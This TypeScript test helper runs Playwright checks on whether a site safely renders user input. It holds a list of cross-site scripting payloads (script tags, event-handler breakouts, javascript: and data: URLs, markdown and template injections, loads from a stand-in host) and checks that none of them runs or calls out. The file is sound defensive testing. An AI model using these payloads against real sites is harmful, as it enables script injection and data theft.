import type { Page } from 'playwright-core'
import { expect } from 'vitest'

/** A host that nothing here may ever ask for. */
export const THIRD = 'third.invalid'
/** What a script that runs does: the page then says so. */
export const RUN = "document.documentElement.setAttribute('data-ran','1')"

/** Ways that text became script somewhere, each trying to run `RUN` or to call another host. */
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src="//${THIRD}/x.js"></script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'"><img src=x onerror="${RUN}">`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `<img src="https://${THIRD}/p.png">`,
  `<svg onload="${RUN}"><use href="https://${THIRD}/x.svg#a"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="https://${THIRD}/x"></object><embed src="https://${THIRD}/x">`,
  `<link rel=stylesheet href="https://${THIRD}/x.css"><style>@import "https://${THIRD}/y.css";</style>`,
  `<p style="background:url(https://${THIRD}/b.png)">x</p>`,
  `<meta http-equiv=refresh content="0;url=https://${THIRD}/">`,
  `<base href="https://${THIRD}/">`,
  `<form action="https://${THIRD}/"><button autofocus>ok</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video autoplay><source onerror="${RUN}"></video>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt&colon;${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](https://${THIRD}/i.png)`,
  `![x](x "\\" onerror=\\"${RUN}")`,
  `[x](https://kring.invalid/"onclick="${RUN})`,
  `<https://kring.invalid/"onclick=${RUN}>`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `\u2028</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `javascript:${RUN}`,
]

/** Hears what a page asks of other hosts than its own, and what it says by itself; what it answers fills up. */
export function listen(page: Page, origin: string): string[] {
  const heard: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (!['data:', 'blob:'].includes(url.protocol) && url.origin !== origin) heard.push(request.url())
  })
  page.on('dialog', (dialog) => {
    heard.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  return heard
}

/** Looks whether anything of what people wrote ran, kept a handler, or stands there as something else than words. */
export async function look(page: Page, where: string) {
  // Folds are opened, so that whatever is behind them is alive; nothing is waited for but the page itself.
  const found = await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true
    const handlers: string[] = []
    for (const element of document.querySelectorAll('main *'))
      for (const attribute of element.attributes)
        if (
          /^on/i.test(attribute.name) ||
          // What a field holds is never followed.
          (attribute.name !== 'value' && /^\s*(javascript|data|vbscript):/i.test(attribute.value))
        )
          handlers.push(`${element.tagName} ${attribute.name}=${attribute.value}`)
    return {
      ran: document.documentElement.hasAttribute('data-ran'),
      handlers,
      strange: [
        ...document.querySelectorAll(
          'main :is(script:not([src="/page.js"]), iframe, object, embed, img, style, link, meta, base, video, math)',
        ),
      ].map((element) => element.outerHTML.slice(0, 120)),
      base: document.baseURI.startsWith(location.origin),
    }
  })
  expect(found, where).toEqual({ ran: false, handlers: [], strange: [], base: true })
}

/** The same for a field in which little fits. */
const SHORT = [
  '<script>ran()</script>',
  '<img src onerror=ran()>',
  '" onclick=ran() x="',
  '<svg onload=ran()>',
  'javascript:ran()',
  '[x](javascript:ran())',
]

/** As many characters as any field with room to write takes, and any line in which more than a name fits. */
const [SHEET, LINE] = [900, 200]

/**
 * What to send in a field, each with a tag at its end by which it is known again: in room to write all of them, over some
 * sheets; in a line a few, `turn` by turn others, and a short one.
 */
export function wordsFor(field: { long: boolean; max: number }, turn: number): string[] {
  const most = Math.min(field.max, field.long ? SHEET : LINE) - TAG_ROOM
  const glue = field.long ? '\n\n' : ' '
  const fit = PAYLOADS.filter((payload) => payload.length <= most && (field.long || !payload.includes('\n')))
  const words: string[] = []
  for (const [at] of fit.entries()) {
    const payload = fit[(turn * 7 + at) % fit.length]!
    const more = words.length ? `${words.at(-1)}${glue}${payload}` : payload
    if (words.length && more.length <= most) words[words.length - 1] = more
    else words.push(payload)
  }
  const chosen = field.long ? words.slice(0, 3) : [SHORT[turn % SHORT.length]!, ...words.slice(0, 1)]
  return chosen.map((one, at) => `${one} //q${turn}q${at}q`)
}
const TAG_ROOM = ' //q999q9q'.length

/** The tags of all words on a page. */
export const tagsOn = (html: string): string[] => [...new Set(html.match(/q\d+q\dq/g))]
